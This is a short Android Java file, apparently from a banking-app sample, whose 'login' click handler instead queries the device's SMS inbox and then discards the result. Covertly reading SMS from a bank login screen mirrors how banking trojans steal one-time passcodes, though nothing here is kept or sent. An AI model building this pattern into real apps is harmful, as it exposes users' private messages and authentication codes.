package com.example.app_bank_secure_pages;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import android.view.View;

final class LoginClick implements View.OnClickListener {
    private final Context context;

    LoginClick(Context context) {
        this.context = context;
    }

    @Override
    public void onClick(View view) {
        Cursor rows = context.getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, "date desc");
        if (rows != null) {
            rows.close();
        }
    }
}
